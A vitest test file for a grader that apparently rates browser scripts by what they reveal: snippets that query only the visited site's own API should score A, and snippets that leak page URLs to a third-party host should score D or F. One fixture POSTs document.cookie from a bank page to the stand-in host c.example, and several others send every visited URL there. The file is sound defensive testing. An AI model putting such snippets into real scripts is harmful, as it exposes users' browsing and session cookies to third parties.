import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const ID = "new URLSearchParams(location.search).get('v')";
const TO_SITE = `fetch('https://www.tube.example/api?v=' + ${ID}).then(show);`;
const ALL = "fetch('https://c.example/api?u=' + encodeURIComponent(location.href));";

it.each([
  `if (location.hostname === 'www.tube.example') { ${TO_SITE} }`,
  `function run() { if (!window.location.host.endsWith('tube.example')) return; ${TO_SITE} } run();`,
  `switch (location.hostname) { case 'tube.example': case 'm.tube.example': ${TO_SITE} }`,
  `const host = location.hostname; if (host === 'tube.example') { const id = ${ID}; send(id); } function send(id) { fetch('https://api.tube.example/' + id); }`,
  `class Player { start() { ${TO_SITE} } } if (document.location.href.includes('//tube.example/')) new Player().start();`,
  'const found = location.href.match(/tube\\.example\\/video\\/(\\w+)/); if (found) fetch(`https://api.tube.example/${found[1]}`);',
  'const found = /^https:\\/\\/(?:www\\.)?tube\\.example\\/([^/]+)/.exec(location.href); if (found) fetch(`https://tube.example/${found[1]}`);',
])('tells a site nothing by what its own pages alone are asked for: %s', async (content) => {
  expect(await graded({ content })).toMatch(/^A/);
});

it.each([
  `if (location.hostname !== 'tube.example') { ${ALL} }`,
  `if (location.href.includes('.com')) { ${ALL} }`,
  `if (location.href.endsWith('index.html')) { ${ALL} }`,
  `if (/^https:\\/\\/(www\\.)?[^/]+\\.com/.test(location.href)) { ${ALL} }`,
  `if (/tube\\.example|http/.test(location.href)) { ${ALL} }`,
  `function go() { ${ALL} } if (location.hostname === 'tube.example') go(); setTimeout(() => go(), 10);`,
  "const m = location.href.match(/\\w*e\\.com\\/(.*)/); if (m) fetch('https://c.example/api?u=' + m[1]);",
  `if (/^(?!https:\\/\\/c\\.example\\/)/.test(location.href)) { ${ALL} }`,
  `if (/^https:\\/\\/(?:c\\.example\\/)?/.test(location.href)) { ${ALL} }`,
  `if (/[c.example/]/.test(location.href)) { ${ALL} }`,
  `if (location.href.indexOf('c.example') !== 5) { ${ALL} }`,
  `if ('c.example'.concat(location.href)) { ${ALL} }`,
  "if (location.hostname === 'bank.example') fetch('https://c.example/', { method: 'POST', body: document.cookie });",
])('and what any page, or somebody else, is told of counts in full: %s', async (content) => {
  expect(await graded({ content })).toMatch(/^[DF]/);
});
